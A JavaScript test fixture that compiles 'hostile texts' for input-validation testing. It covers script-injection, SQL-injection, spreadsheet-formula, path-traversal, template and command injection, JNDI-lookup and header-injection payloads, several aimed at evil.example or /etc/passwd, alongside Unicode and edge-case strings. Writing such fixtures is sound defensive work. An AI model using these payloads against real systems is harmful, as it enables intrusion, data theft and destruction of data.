// Texts that have broken other programs, by what they aim at. Each is to be kept as it is, or refused
// with a word at its field; none may become markup, a formula, a header or a path.

const SINKS = ['alert(1)', 'fetch("//evil.example")', '`x`', 'document.cookie']

const markup = SINKS.flatMap((sink) => [
  `<script>${sink}</script>`,
  `<img src=x onerror=${sink}>`,
  `<svg/onload=${sink}>`,
  `"><iframe src="javascript:${sink}">`,
  `'><a href='javascript:${sink}'>x</a>`,
  `</textarea></title><script>${sink}</script>`,
  `<details open ontoggle=${sink}>`,
  `<!--><style onload=${sink}>`,
  `" autofocus onfocus=${sink} x="`,
  `<math><mi xlink:href="data:x,${sink}">`,
  `<template><b>${sink}</template>`,
  `&lt;script&gt;${sink}&lt;/script&gt;`,
  `<hx-partial hx-target="body">${sink}</hx-partial>`,
  `<div hx-get="/history" hx-trigger="load">${sink}</div>`,
])

const TABLES = ['tenant', 'computer', 'person', 'change', 'operation']
const sql = TABLES.flatMap((table) => [
  `'; drop table ${table}; --`,
  `" or ""="" from ${table}`,
  `1) union select * from ${table} --`,
  `%' and 1=(select count(*) from ${table}) --`,
  `\\'; delete from ${table} where 1=1; --`,
  `${table}" * OR NEAR(`,
])

const FUNCTIONS = ['cmd|"/c calc"!A1', 'HYPERLINK("http://evil.example")', 'SUM(1,1)', '1+1']
const formulas = FUNCTIONS.flatMap((run) =>
  ['=', '+', '-', '@', '\t=', '\r=', "'=", "''=", ' =', '"=', '＝', ';='].map(
    (start) => `${start}${run}`,
  ),
)

const scripts = [
  '\u202etxt.exe',
  '\u2066hidden\u2069',
  '\u200bzero width',
  'zero\u200cjoiner\u200dhere',
  '\u200d\u200d',
  '\ufeffmark',
  '👩‍👩‍👧‍👦 family',
  '🏳️‍🌈🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  '🦉'.repeat(100),
  'مرحبا بالعالم',
  'שלום עולם',
  'mixed עברית and العربية',
  '漢字かな交じり文',
  '한국어 조합: 각',
  'ﷺ',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢',
  'e\u0301 is not é',
  'ﬁ ligature',
  'İstanbul ıssız',
  'ǅ titlecase',
  'ß ẞ SS',
  'ΣΑΣ σας',
  'Ⅷ ① ½ ²',
  'а is Cyrillic',
  '‮‮‮',
  '\u2028line\u2029paragraph',
  '\u00a0no break\u00a0',
  '\u3000wide\u3000',
  '\u00ad\u00ad soft',
  '\u115f\u1160\u3164',
  '\u{e0001}\u{e0041} tag',
  '\u{1f1e6}\u{1f1e6}',
  '\ue000 private',
  '\ufffe\uffff nobody',
  '\u{10ffff} last',
  '⠀⠀⠀',
]

const control = [
  ...Array.from({ length: 32 }, (_, code) => `a${String.fromCharCode(code)}b`),
  '\u0000',
  '\u0000after',
  'before\u0000',
  '\u007f',
  '\u0085next\u009f',
  '\u001b[31mred\u001b[0m',
  'bell\u0007\u0008\u0008',
]

const halves = ['\ud83d', '\udc4d', 'a\ud83d', '\udc4da', '\ud83d\ud83d', 'x\udc00\ud800y']

const paths = [
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2fetc%2fpasswd',
  '/etc/passwd\u0000.png',
  'file:///etc/passwd',
  'C:\\CON\\NUL',
  'CON',
  'aux.txt',
  '.',
  '..',
  '/',
  '//evil.example/x',
  '\\\\evil.example\\share',
  '~root',
  '$HOME/.ssh/id_rsa',
  './-rf',
]

const templates = [
  '<%= process.env %>',
  "<%~ include('/etc/passwd') %>",
  '{{7*7}}',
  '${7*7}',
  '#{7*7}',
  '{%raw%}{{7*7}}{%endraw%}',
  '{{constructor.constructor("return this")()}}',
  '$(reboot)',
  '`reboot`',
  '; reboot #',
  '| cat /etc/passwd',
  '%s%s%s%n%n',
  '%x%x%x%x',
  '{0}{1}',
  '<?php phpinfo() ?>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '(?:a+)+$',
  '${jndi:ldap://evil.example/a}',
]

const headers = [
  'x\r\nSet-Cookie: session=evil',
  'x\nLocation: //evil.example',
  'x"; filename="evil.exe',
  "x'; filename*=UTF-8''evil.exe",
  'x%0d%0aSet-Cookie:%20a=b',
  'Bcc: everybody@evil.example',
  'text/html;charset=utf-7',
  '+ADw-script+AD4-',
]

const LENGTHS = [199, 200, 201, 1000, 2001, 5000]
const long = LENGTHS.flatMap((length) => ['a', 'é', '🦉', ' x'].map((text) => text.repeat(length)))

const numbers = [
  '0',
  '-0',
  '007',
  '1e1000',
  '9007199254740993',
  '-1',
  '0x10',
  'NaN',
  'Infinity',
  '1,000',
  '1.0',
  '٣',
  'null',
  'undefined',
  'true',
  'None',
  'nil',
  '[]',
  '{}',
  '[object Object]',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '2026-02-30',
  '""',
  "''",
  '"',
  "'",
  '\\',
  ',',
  ';',
  'a,b;c\td"e',
]

const made = [
  ...markup,
  ...sql,
  ...formulas,
  ...scripts,
  ...control,
  ...halves,
  ...paths,
  ...templates,
  ...headers,
  ...long,
  ...numbers,
]

/** Each different from the others. */
export const hostileTexts = [...new Set(made)]
